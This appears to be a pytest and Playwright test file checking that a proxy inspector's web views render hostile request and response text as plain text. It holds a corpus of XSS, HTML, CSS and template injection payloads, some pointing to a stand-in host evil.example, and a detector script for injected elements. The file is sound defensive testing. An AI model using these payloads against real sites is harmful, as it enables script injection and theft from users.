"""What strangers send is text in every view: nothing of it runs, loads, styles or misleads."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.browser.scripted import Answer, scripted
from tests.browser.stage import Staged, staged

RUN = "window.pwned=1"
#: What would do something if it were more than text.
CORPUS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'><details open ontoggle={RUN}>x</details>",
    f'<a href="javascript:{RUN}">pwned</a>',
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"</textarea></pre></title></style><input autofocus onfocus={RUN}>",
    "<base href='http://evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>pwned</button></form>",
    "<style>*{display:none!important}</style>",
    "red;background:url(http://evil.example/x)}*{display:none}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    "<!--<pwned-->]]>&lt;b&gt;&#x3c;script&#x3e;",
    "__proto__",
    "\u202egpj.exe \u2066\u200b\ufeff\u2069 hidden \U000e0041\U000e0042",
    "\x00 \x1b[2J\x1b]0;pwned\x07 \x7f \x85",
    "<" * 60 + "W" * 20_000,
)
ALL = " ".join(CORPUS)
PLAIN = [each for each in CORPUS if each.isprintable() and each.isascii() and len(each) < 200]
TEXT = "<script>window.pwned"

#: Each view, where it is, and whether the hostile text must be on it.
VIEWS = {
    "list": ("/", True),
    "a body": ("/exchanges/1", True),
    "a stream": ("/exchanges/2", True),
    "parts": ("/exchanges/3", True),
    "a page of the web": ("/exchanges/4", True),
    "a bare target": ("/exchanges/5", True),
    "a thread": ("/exchanges/7", True),
    "edit and resend": ("/exchanges/1/edit", True),
    "a new request": ("/send", False),
    "a filter": ("/?filter=" + quote(f"body~{json.dumps(PLAIN[0])}"), True),
    "differences": ("/diff?left=exchange:1&right=exchange:2", True),
    "differences with the cassette": ("/diff?left=exchange:1&right=" + quote("default.yaml#2"), True),
    "conversations": ("/conversations", False),
    "a conversation": ("/conversations/default~thread_1", True),
    "cassettes": ("/cassettes", False),
    "a cassette": ("/cassettes/default.yaml", False),
    "a cassette of that name": ("/cassettes/" + quote("<img src=x onerror=pwned>.yaml", safe=""), False),
    "a cassette that is not there": ("/cassettes/" + quote(CORPUS[0], safe=""), False),
    "an interaction": ("/cassettes/default.yaml/interactions/1", True),
    "sessions": ("/sessions", False),
    "usage": ("/usage", False),
    "no view": ("/" + quote(CORPUS[2]), False),
}

#: What must not be there: elements and addresses that only hostile text can have made.
MADE = """() => {
  const found = [];
  const told = (element) => found.push(element.outerHTML.slice(0, 200));
  for (const each of document.querySelectorAll('*')) {
    for (const { name, value } of each.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || /^\\s*(javascript|vbscript):/i.test(value)) told(each);
    }
  }
  const all = (selector) => [...document.querySelectorAll(selector)];
  const never = 'iframe, frame, object, embed, base, style, meta[http-equiv], form[action], svg script, math, portal';
  all(never).forEach(told);
  const allow = (selector, allowed) => all(selector).filter((each) => !allowed(each)).forEach(told);
  allow('script', (each) => new URL(each.src).pathname === '/ui/main.js');
  allow('link', (each) => ['/ui/style.css', ','].includes(new URL(each.href).pathname));
  allow('img, audio, video, source', (each) => each.src.startsWith('blob:'));
  allow('a[href]', (each) => each.protocol === 'blob:' || each.origin === location.origin);
  if (window.pwned !== undefined || Object.prototype.pwned !== undefined) found.push('it ran');
  if (getComputedStyle(document.body).display === 'none') found.push('it styled');
  return found;
}"""


def names(value: str) -> dict[str, str]:
    """The corpus as values and as names of members."""
    return {f"{value} {number}": each for number, each in enumerate(CORPUS)} | dict.fromkeys(CORPUS, value)


def event(name: str, data: str) -> str:
    """An event of a stream; lines and nulls cannot stand in one."""
    lines = data.replace("\n", " ").replace("\r", " ")
    return f"event: {name}\ndata: {lines}\n\n"


def chunk(text: str) -> str:
    """The data of an event that adds text."""
    return json.dumps({"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": text}}]})


def answers() -> dict[str, Answer]:
    """What the upstream says."""
    headers = tuple((f"x-evil-{number}", each) for number, each in enumerate(PLAIN))
    events = [event(each, chunk(each)) for each in CORPUS if "\0" not in each] + [event("x", each) for each in PLAIN]
    html = f"<!doctype html><html><head><title>{ALL}</title></head><body>{ALL}</body></html>"
    message = {"object": "thread.message", "id": "msg_1", "thread_id": "thread_1", "role": "assistant"}
    said = message | {"content": [{"type": "text", "text": {"value": ALL, "annotations": []}}]}
    return {
        "chat/completions": Answer(json.dumps(names("x") | {"model": CORPUS[0]}).encode(), headers=headers),
        "responses": Answer("".join(events).encode(), "text/event-stream"),
        "files": Answer(json.dumps({"error": {"message": ALL, "param": CORPUS[0], "code": ALL}}).encode(), status=400),
        "page": Answer(html.encode(), "text/html"),
        "threads/thread_1/messages": Answer(json.dumps({"object": "list", "data": [said]}).encode()),
        "models": Answer(json.dumps({"data": [{"id": each} for each in CORPUS]}).encode()),
    }


def traffic(proxy: Staged) -> None:
    """The exchanges that the views show, by number."""
    content = [{"type": "text", "text": ALL}, {"type": "image_url", "image_url": {"url": CORPUS[7]}}]
    messages = [{"role": CORPUS[0], "content": content}, {"role": "user", "content": ALL, "name": CORPUS[2]}]
    asked = {"model": CORPUS[0], "messages": messages, "metadata": names("m"), "temperature": CORPUS[1]}
    sent = {f"x-evil-{number}": each for number, each in enumerate(PLAIN)}
    proxy.raw("POST", "/v1/chat/completions", json=asked, headers=sent)
    proxy.raw("POST", "/v1/responses", json={"model": CORPUS[3], "input": ALL, "stream": True})
    parts = [(each[:100], (each, each.encode(), "text/html")) for each in PLAIN]
    proxy.raw("POST", "/v1/files", files=parts)
    proxy.raw("POST", "/v1/page", content=ALL.encode(), headers={"content-type": "text/html"})
    bare(proxy, "/v1/models/" + PLAIN[0] + "?x=" + PLAIN[0])
    proxy.raw("GET", "/v1/models", params={"limit": CORPUS[2], CORPUS[0]: "x"})
    proxy.raw("GET", "/v1/threads/thread_1/messages")
    proxy.raw("POST", f"/@{quote(PLAIN[0], safe='')}/v1/chat/completions", json=asked)


def bare(proxy: Staged, target: str) -> None:
    """A request whose target nobody encoded."""
    where = urlsplit(proxy.url)
    with socket.create_connection((where.hostname, where.port), timeout=10) as sock:
        sock.sendall(f"GET {target} HTTP/1.1\r\nHost: {where.netloc}\r\nConnection: close\r\n\r\n".encode())
        while sock.recv(65536):
            pass


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Staged]:
    """A proxy through which all of it went."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    with scripted(**answers()) as upstream:
        arguments = ("--upstream", upstream.url, "--mode", "auto", "--validate", "warn")
        with staged(folder, "serve", *arguments) as running:
            traffic(running)
            text = (folder / "cassettes" / "default.yaml").read_bytes()
            (folder / "cassettes" / "<img src=x onerror=pwned>.yaml").write_bytes(text)
            yield running


@pytest.fixture
def watched(proxy: Staged, open_page: Callable[..., Page]) -> Iterator[Page]:
    """A page that fails the test when it opened a dialog or a window of the browser, or asked anybody else."""
    page, seen = open_page(permissions=["clipboard-read", "clipboard-write"]), list[str]()

    def dialog(opened: Dialog) -> None:
        seen.append(f"a dialog: {opened.message}")
        opened.dismiss()

    page.on("dialog", dialog)
    page.on("popup", lambda other: seen.append(f"a window: {other.url}"))
    page.on("request", lambda request: None if is_own(proxy, request.url) else seen.append(f"asked {request.url}"))
    yield page
    assert not seen


def is_own(proxy: Staged, url: str) -> bool:
    """Whether an address is the inspector's, or what a page made itself."""
    return url.startswith((proxy.admin_url + "/", "blob:", "data:,", "about:"))


def look(page: Page) -> None:
    """Opens what can be opened: tabs, folded things, other forms of a body."""
    for selector in ("[role=tab]", ".switches button", "main summary", ".event-head", "main button.more"):
        for each in page.locator(selector).all()[:12]:
            if each.is_visible():
                each.click()
                assert page.evaluate(MADE) == []


@pytest.mark.parametrize(("view", "told"), VIEWS.values(), ids=VIEWS)
def test_hostile_text_stays_text(watched: Page, proxy: Staged, complaints: object, view: str, told: bool) -> None:
    """No element comes of it, nothing runs, nobody else is asked; where it should be, it can be read."""
    complaints.expected += ["404", "400"]  # type: ignore[attr-defined]
    watched.goto(proxy.inspector(view))
    expect(watched.get_by_role("main")).not_to_be_empty()
    expect(watched.locator("main .view > *, main > .empty").first).to_be_visible()
    if told:
        shown = watched.get_by_role("main").get_by_text(TEXT).or_(watched.locator("main textarea"))
        expect(shown.first).to_be_attached()
    assert watched.evaluate(MADE) == []
    look(watched)
    assert watched.evaluate(MADE) == []
    assert watched.evaluate("document.querySelector('main').scrollWidth <= innerWidth")
    watched.goto("about:blank")


def test_what_nobody_would_see_is_written_out(watched: Page, proxy: Staged) -> None:
    """Characters that turn, hide or control text are shown as escapes."""
    watched.goto(proxy.inspector("/exchanges/4"))
    response = watched.get_by_role("region", name="Response", exact=True)
    for escape in ("\\u202e", "\\u2066", "\\u200b", "\\ufeff", "\\u0000", "\\u001b", "\\u{e0041}"):
        expect(response.locator(".escape", has_text=escape).first).to_be_visible()


def test_the_check_finds_what_hostile_text_would_make(watched: Page, proxy: Staged) -> None:
    """So that the tests above mean something."""
    watched.goto(proxy.inspector("/exchanges/4"))
    expect(watched.get_by_role("region", name="Response", exact=True)).to_be_visible()
    assert watched.evaluate(MADE) == []
    for tag, name, value in (("a", "href", "javascript:0"), ("iframe", "name", "x"), ("math", "x", "")):
        script = (
            "([tag, name, value]) => document.body.appendChild(document.createElement(tag)).setAttribute(name, value)"
        )
        watched.evaluate(script, [tag, name, value])
    found = {each.split()[0] for each in watched.evaluate(MADE)}
    assert found == {"<a", "<iframe", "<math"}
